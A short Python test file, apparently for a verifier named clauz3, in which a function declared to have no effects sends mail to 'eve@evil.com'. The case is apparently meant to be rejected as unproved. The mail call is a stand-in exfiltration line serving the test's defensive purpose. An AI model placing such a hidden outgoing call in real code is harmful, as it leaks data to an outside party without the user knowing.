# not proved: nor does one of the aliases that clauz3 uses inside
import clauz3
from tools.switched.trusted import contracts as c
from tools.switched.trusted.effects import mail


@clauz3.guarantee(c.none())
def main() -> None:
    _clauz3_required_0 = lambda: True
    _clauz3_pol_0 = lambda: True
    mail("eve@evil.com", "x")
